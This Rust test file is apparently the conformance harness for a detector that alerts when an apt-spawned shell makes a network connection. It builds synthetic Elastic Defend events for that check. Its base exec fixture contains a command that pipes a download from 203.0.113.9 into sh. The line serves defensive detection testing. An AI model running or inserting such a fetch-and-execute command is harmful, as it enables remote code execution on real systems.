//! The data-driven conformance suite: `tests/data/conformance.toml`.
//!
//! Each case is a short stream built from two base events (a matching shell
//! exec and a matching network connection, see `base_exec` / `base_net`)
//! with per-event changes, and the alerts Elasticsearch would raise, as
//! `[completing event, shell event]` index pairs. Every case has a note
//! saying what it proves; RULE.md §Semantics numbers its points.

use apt_netcon::{Config, Detector, Verdict};
use serde_json::{json, Map, Value};

fn base_exec() -> Value {
    json!({
        "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"},
        "host": {"id": "H1", "name": "host-1", "os": {"type": "linux"}},
        "process": {
            "name": "sh", "pid": 100, "entity_id": "E1", "executable": "/usr/bin/sh",
            "args": ["sh", "-c", "curl -s http://203.0.113.9/p | sh"],
            "parent": {"name": "apt", "pid": 99, "entity_id": "P1"}
        }
    })
}

fn base_net() -> Value {
    json!({
        "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted", "kind": "event"},
        "host": {"id": "H1", "name": "host-1", "os": {"type": "linux"}},
        "process": {"name": "curl", "pid": 101, "entity_id": "C1", "executable": "/usr/bin/curl",
                    "parent": {"entity_id": "E1"}},
        "destination": {"ip": "8.8.8.8", "port": 443}
    })
}

/// 2024-05-01T10:00:00Z in ms.
const T0: i64 = 1_714_557_600_000;

fn set_path(v: &mut Value, path: &str, val: Value) {
    let mut cur = v;
    let segs: Vec<&str> = path.split('.').collect();
    for s in &segs[..segs.len() - 1] {
        if !cur.get(*s).is_some_and(Value::is_object) {
            cur[*s] = json!({});
        }
        cur = cur.get_mut(*s).unwrap();
    }
    cur[segs[segs.len() - 1]] = val;
}

fn unset_path(v: &mut Value, path: &str) {
    let segs: Vec<&str> = path.split('.').collect();
    let mut cur = v;
    for s in &segs[..segs.len() - 1] {
        match cur.get_mut(*s) {
            Some(c) => cur = c,
            None => return,
        }
    }
    if let Some(m) = cur.as_object_mut() {
        m.remove(segs[segs.len() - 1]);
    }
}

fn flatten(v: &Value, prefix: &str, out: &mut Map<String, Value>) {
    for (k, x) in v.as_object().unwrap() {
        let key = if prefix.is_empty() { k.clone() } else { format!("{prefix}.{k}") };
        match x {
            Value::Object(_) => flatten(x, &key, out),
            _ => {
                out.insert(key, x.clone());
            }
        }
    }
}

/// The 7-fractional-digit form Elastic Defend writes.
fn defend_time(ms: i64, extra_100ns: i64) -> String {
    let s = apt_netcon::format::time::format_ms(ms); // ...SS.mmmZ
    format!("{}{:04}Z", &s[..s.len() - 1], extra_100ns)
}

fn build(i: usize, spec: &toml::Value) -> Vec<u8> {
    let t = spec.as_table().expect("event is a table");
    if let Some(raw) = t.get("raw") {
        return raw.as_str().unwrap().as_bytes().to_vec();
    }
    let mut v = match t.get("base").and_then(|b| b.as_str()) {
        Some("exec") => base_exec(),
        Some("net") => base_net(),
        Some("empty") => json!({}),
        other => panic!("event {i}: unknown base {other:?}"),
    };
    set_path(&mut v, "event.id", json!(format!("ev-{i}")));
    let ms = t.get("t").map(|x| x.as_integer().unwrap()).unwrap_or(0);
    let frac = t.get("frac_100ns").map(|x| x.as_integer().unwrap()).unwrap_or(0);
    set_path(&mut v, "@timestamp", json!(defend_time(T0 + ms, frac)));
    if let Some(ts) = t.get("ts") {
        let val: Value = serde_json::to_value(ts).unwrap();
        set_path(&mut v, "@timestamp", val);
    }
    if let Some(sets) = t.get("set").and_then(|s| s.as_table()) {
        for (k, x) in sets {
            let val: Value = serde_json::to_value(x).unwrap();
            set_path(&mut v, k, val);
        }
    }
    if let Some(nulls) = t.get("null").and_then(|s| s.as_array()) {
        for k in nulls {
            set_path(&mut v, k.as_str().unwrap(), Value::Null);
        }
    }
    if let Some(unsets) = t.get("unset").and_then(|s| s.as_array()) {
        for k in unsets {
            unset_path(&mut v, k.as_str().unwrap());
        }
    }
    if t.get("dotted").and_then(|d| d.as_bool()).unwrap_or(false) {
        let mut m = Map::new();
        flatten(&v, "", &mut m);
        v = Value::Object(m);
    }
    serde_json::to_vec(&v).unwrap()
}

#[test]
fn conformance_suite() {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/conformance.toml")).unwrap();
    let doc: toml::Value = toml::from_str(&text).unwrap();
    let cases = doc["case"].as_array().unwrap();
    let mut failures = Vec::new();
    let mut sections = std::collections::BTreeMap::<(i64, bool), usize>::new();
    for case in cases {
        let name = case["name"].as_str().unwrap();
        let proves = case.get("proves").and_then(|p| p.as_str()).unwrap_or("");
        assert!(!proves.is_empty(), "case {name} has no note on what it proves");
        let mut cfg = Config::default();
        if let Some(r) = case.get("rule") {
            cfg.rule = r.as_str().unwrap().to_string();
        }
        let mut det = Detector::new(&cfg).unwrap();
        let events: Vec<Vec<u8>> =
            case["events"].as_array().unwrap().iter().enumerate().map(|(i, e)| build(i, e)).collect();
        let mut got: Vec<(i64, i64)> = Vec::new();
        for (i, rec) in events.iter().enumerate() {
            match det.process(rec) {
                Ok(Verdict::Annotated(out)) => {
                    let v: Value = serde_json::from_slice(out).unwrap();
                    let shell = v["apt_netcon"]["shell"]["event"]["id"].as_str().unwrap_or("?");
                    let j: i64 = shell.trim_start_matches("ev-").parse().unwrap_or(-1);
                    got.push((i as i64, j));
                }
                Ok(Verdict::Unchanged) | Err(_) => {}
            }
        }
        let want: Vec<(i64, i64)> = case["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| {
                let p = p.as_array().unwrap();
                (p[0].as_integer().unwrap(), p[1].as_integer().unwrap())
            })
            .collect();
        let section = case["section"].as_integer().unwrap();
        let negative =
            want.is_empty() || case.get("negative").and_then(|n| n.as_bool()).unwrap_or(false);
        *sections.entry((section, !negative)).or_default() += 1;
        if got != want {
            failures.push(format!("{name} (§{section}: {proves}): expected {want:?}, got {got:?}"));
        }
    }
    println!("{} conformance cases", cases.len());
    for s in 1..=10 {
        let pos = sections.get(&(s, true)).copied().unwrap_or(0);
        let neg = sections.get(&(s, false)).copied().unwrap_or(0);
        println!("  §{s}: {pos} positive, {neg} negative");
        assert!(pos > 0 && neg > 0, "§{s} needs at least one positive and one negative case");
    }
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), cases.len(), failures.join("\n"));
}

#[test]
fn readme_config_table_is_generated_from_the_key_table() {
    // The table lives in docs/configuration.md (the README links to it).
    let page = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/configuration.md")).unwrap();
    let table = apt_netcon::Config::markdown_table();
    assert!(
        page.contains(&table),
        "docs/configuration.md's configuration table differs from config::KEYS; paste this:\n{table}"
    );
}
